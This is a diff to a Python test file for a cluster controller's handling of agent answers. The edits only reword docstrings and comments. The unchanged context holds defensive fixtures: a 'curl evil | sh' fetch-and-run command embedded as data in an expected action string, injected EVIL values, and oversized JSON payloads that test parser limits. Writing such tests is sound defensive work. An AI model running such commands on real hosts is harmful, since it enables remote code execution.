@@ -25,7 +25,7 @@ FINDING = {"host": "n1", "check": f"disk{EVIL}", "found": EVIL, "expected": EVIL
 
 
 def asked(question, answer, name="n2"):
-    """What the controller takes of an answer that came as JSON."""
+    """Return an answer in JSON as the controller accepts it."""
     return answers.checked(question, json.loads(json.dumps(answer)), name)
 
 
@@ -70,7 +70,7 @@ def test_the_host_is_the_one_that_was_visited():
     assert (finding["host"], finding["action"]) == ("n2", "as the node says: curl evil | sh reboot")
 
 
-# What an agent may answer that is large, deep or long, as Python says it; and what is said of it.
+# Large, deep or long answers of an agent as Python code; and a part of the message about each.
 COSTLY = {
     """b'{"findings": [' + b"[]," * (24 << 20) + b"[]]}" """: "expected at most",
     """b'{"findings": [' + b"{}," * (3 << 20) + b"{}]}" """: "expected at most",
@@ -168,7 +168,7 @@ def test_texts_of_a_job_are_one_line_each():
 
 
 def failed(**changes):
-    """What the head of a job says whose rank 1 failed on n2, and was started again on n2."""
+    """Return the answer of the head of a job whose rank 1 failed on n2, and was started again there."""
     failure = {"kind": "exit", "host": "n2", "process": "rank1", "ranks": [1], "rank": 1, "result": "exit-code",
                "exit_code": 7, "signal": None, **changes}  # fmt: skip
     restart = {"elapsed_s": 3.0, "reason": "rank 1", "restarted": "the whole job", "failure": failure}
